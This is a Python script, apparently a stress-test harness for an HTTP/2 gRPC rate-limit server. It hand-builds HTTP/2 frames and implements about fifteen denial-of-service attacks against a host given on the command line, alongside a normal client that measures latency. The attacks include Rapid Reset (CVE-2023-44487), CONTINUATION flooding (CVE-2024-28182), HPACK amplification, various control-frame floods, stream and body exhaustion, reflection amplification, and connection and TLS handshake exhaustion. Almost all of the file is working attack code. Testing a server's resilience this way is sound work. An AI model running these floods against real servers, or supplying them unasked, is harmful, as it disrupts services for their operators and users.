"""Attacks on an HTTP/2 server with hand-made frames, and a well-behaved client
to compare with. Each attack runs in a process of its own:

http2_attacks.py ATTACK HOST:PORT: attacks until it is killed. Prints one line
after each round.
"""

import itertools
import socket
import ssl
import struct
import sys
import time

# A server that never answers fails the test after this time.
PATIENCE_S = 60

MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 9)
WINDOW_UPDATE = 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL, INITIAL_WINDOW_SIZE = 8, 4

DECIDE = b"/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
REFLECT = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


def frame(kind, flags=0, stream=0, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def hpack_string(text):
    """RFC 7541 section 5.2, without Huffman codes."""
    size = len(text)
    if size < 127:
        return bytes([size]) + text
    out, size = b"\x7f", size - 127
    while size >= 128:
        out, size = out + bytes([size % 128 + 128]), size // 128
    return out + bytes([size]) + text


def block(path=DECIDE):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
              (b":authority", b"test"), (b"te", b"trailers"),
              (b"content-type", b"application/grpc")]
    return b"".join(b"\0" + hpack_string(name) + hpack_string(value)
                    for name, value in fields)


def head(stream, path=DECIDE, flags=0):
    return frame(HEADERS, END_HEADERS | flags, stream, block(path))


def message(text):
    return b"\0" + struct.pack(">I", len(text)) + text


def entry(key, value):
    both = (b"\x0a" + bytes([len(key)]) + key +
            b"\x12" + bytes([len(value)]) + value)
    one = b"\x0a" + bytes([len(both)]) + both
    return b"\x12" + bytes([len(one)]) + one


# One descriptor of a domain that has no rules.
QUESTION = message(b"\x0a\x01d" + entry(b"k", b"v"))


def call(stream):
    return head(stream) + frame(DATA, END_STREAM, stream, QUESTION)


def streams():
    """The numbers of the streams that a client opens."""
    return itertools.count(1, 2)


def connect(address):
    host, port = address.rsplit(":", 1)
    made = socket.create_connection((host, int(port)), PATIENCE_S)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made


class GoodClient:
    """Sends one call after the other and waits for each answer."""

    def __init__(self, address, tls=None):
        self.socket = connect(address)
        if tls:
            self.socket = tls.wrap_socket(self.socket)
        self.socket.sendall(MAGIC + frame(SETTINGS) + frame(
            WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.received = b""
        self.stream = 1
        self.taken_s = []

    def call(self):
        """True: the call has an answer with a message."""
        start = time.monotonic()
        self.socket.sendall(call(self.stream))
        answered = False
        while True:
            kind, flags, stream = self.next_frame()
            if stream == self.stream:
                answered |= kind == DATA
                if kind == RST_STREAM or flags & END_STREAM:
                    break
        self.stream += 2
        self.taken_s.append(time.monotonic() - start)
        return answered

    def next_frame(self):
        while len(self.received) < 9 or len(self.received) < 9 + self.length():
            more = self.socket.recv(65536)
            if not more:
                raise ConnectionError("closed")
            self.received += more
        length = self.length()
        kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
        payload = self.received[9:9 + length]
        self.received = self.received[9 + length:]
        if kind in (SETTINGS, PING) and not flags & ACK:
            answer = payload if kind == PING else b""
            self.socket.sendall(frame(kind, ACK, 0, answer))
        return kind, flags, stream

    def length(self):
        return int.from_bytes(self.received[:3], "big")

    def quantile_ms(self, share):
        times = sorted(self.taken_s)
        return 1000 * times[min(int(share * len(times)), len(times) - 1)]


class Attacker:
    """A connection that reads only to see whether the server has closed it."""

    def __init__(self, address, settings=b"", acknowledge=True):
        self.socket = connect(address)
        self.send(MAGIC + frame(SETTINGS, payload=settings))
        if acknowledge:
            self.send(frame(SETTINGS, ACK))

    def send(self, data):
        self.socket.settimeout(PATIENCE_S)
        self.socket.sendall(data)
        self.socket.settimeout(0)
        try:
            while self.socket.recv(1 << 20):
                pass
            raise ConnectionError("closed")
        except BlockingIOError:
            pass

    def ask(self):
        """Sends PING and waits for an answer."""
        self.socket.settimeout(PATIENCE_S)
        self.socket.sendall(frame(PING, 0, 0, b"12345678"))
        if not self.socket.recv(1 << 20):
            raise ConnectionError("closed")


def setting(name, value):
    return struct.pack(">HI", name, value)


def hold(attacker, count, path=DECIDE):
    """Opens streams whose requests never end."""
    numbers = [number for number, _ in zip(streams(), range(count))]
    for start in range(0, count, 1000):
        attacker.send(b"".join(head(number, path)
                               for number in numbers[start:start + 1000]))
    return numbers


def keep(attackers):
    """Keeps the connections open, until the server ends one of them."""
    while True:
        yield
        for attacker in attackers:
            attacker.ask()


def settings(address, held=2000):
    """Each SETTINGS frame changes the windows of all open streams."""
    attacker = Attacker(address)
    hold(attacker, held)
    flood = b"".join(
        frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 1 + i % 2))
        for i in range(900))
    while True:
        attacker.send(flood)
        yield


def priority(address, held=2000):
    """Two streams in turn become the parent of all others."""
    attacker = Attacker(address)
    first, second = hold(attacker, held)[:2]
    flood = b"".join(
        frame(PRIORITY, 0, number, struct.pack(">IB", 1 << 31, 15))
        for number in (first, second)) * 500
    while True:
        attacker.send(flood)
        yield


def hpack(address):
    """Each byte names a field of 3.9 KB."""
    attacker = Attacker(address)
    bomb = (block() + b"\x40" + hpack_string(b"x") +
            hpack_string(b"x" * 3900) + b"\xbe" * 12000)
    for stream in streams():
        attacker.send(frame(HEADERS, END_HEADERS, stream, bomb))
        yield


def unfinished(address, held=32700, connections=4):
    """Requests that never end, on several connections. Until a client has
    acknowledged it, the bound on its streams does not end the connection."""
    attackers = []
    for _ in range(connections):
        attackers.append(Attacker(address, acknowledge=False))
        hold(attackers[-1], held)
    yield from keep(attackers)


def unfinished_on_many(address):
    """The same within the bound of a connection."""
    return unfinished(address, held=2000, connections=40)


def bodies(address, total=67 << 20):
    """Large bodies that never end, on one connection."""
    part = b"x" * 16384
    attacker = Attacker(address)
    for _, stream in zip(range(total // (48 << 10)), streams()):
        attacker.send(head(stream) + frame(DATA, 0, stream, part) * 3)
    yield from keep([attacker])


def rapid_reset(address):
    """CVE-2023-44487: each request is cancelled at once."""
    attacker = Attacker(address)
    numbers = streams()
    cancel = struct.pack(">I", CANCEL)
    while True:
        attacker.send(b"".join(
            call(number) + frame(RST_STREAM, 0, number, cancel)
            for number, _ in zip(numbers, range(500))))
        yield


def flood_of(piece, first=b""):
    def attack(address):
        attacker = Attacker(address)
        attacker.send(first)
        flood = piece * (60_000 // len(piece))
        while True:
            attacker.send(flood)
            yield
    return attack


def continuations(address):
    """CVE-2024-28182: a header block without end."""
    attacker = Attacker(address)
    attacker.send(frame(HEADERS, 0, 1))
    field = b"\0" + hpack_string(b"x") + hpack_string(b"x" * 16000)
    while True:
        attacker.send(frame(CONTINUATION, 0, 1, field))
        yield


def reflection(address):
    """Small questions with large answers that are not read."""
    attacker = Attacker(address, setting(INITIAL_WINDOW_SIZE, 1 << 24))
    attacker.send(head(1, REFLECT) + frame(WINDOW_UPDATE, 0, 0,
                                           struct.pack(">I", 1 << 30)))
    name = b"envoy.service.ratelimit.v3.RateLimitService"
    ask = message(b"\x22" + bytes([len(name)]) + name)
    while True:
        attacker.send(frame(DATA, 0, 1, ask * 200))
        yield


def connections(address):
    """Connections that say nothing."""
    held = []
    while True:
        try:
            held.append(connect(address))
        except OSError:
            held = held[len(held) // 2:]
        if len(held) % 100 == 0:
            yield


def handshakes(address):
    """TLS handshakes that end after the server's expensive part."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    written = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), written).do_handshake()
    except ssl.SSLWantReadError:
        hello = written.read()
    while True:
        held = [connect(address) for _ in range(300)]
        for one in held:
            one.sendall(hello)
        for one in held:
            one.recv(1)
        yield


ATTACKS = {
    "settings": settings, "priority": priority, "hpack": hpack,
    "unfinished": unfinished, "unfinished_on_many": unfinished_on_many,
    "bodies": bodies, "rapid_reset": rapid_reset,
    "continuations": continuations, "reflection": reflection,
    "pings": flood_of(frame(PING, 0, 0, b"12345678")),
    "empty_data": flood_of(frame(DATA, 0, 1), head(1)),
    "windows": flood_of(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "unknown": flood_of(frame(0xee, 0, 0)),
    "connections": connections, "handshakes": handshakes,
}


def main(name, address):
    while True:
        try:
            for _ in ATTACKS[name](address):
                print("round", flush=True)
        except OSError:
            # The server has ended the connection: again with a new one.
            print("ended", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
